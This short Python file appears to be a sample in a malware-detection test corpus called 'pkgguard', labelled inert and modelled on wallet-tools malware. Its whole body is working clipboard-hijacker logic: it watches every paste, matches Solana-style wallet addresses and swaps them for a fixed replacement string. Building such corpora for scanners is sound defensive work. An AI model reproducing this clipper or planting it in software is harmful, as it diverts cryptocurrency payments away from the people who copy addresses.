# pkgguard corpus 158 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import pyperclip

SOL = re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$")
REPLACEMENT = "1" * 32

while True:
    pasted = pyperclip.waitForNewPaste()
    if SOL.match(pasted.strip()):
        pyperclip.copy(REPLACEMENT)
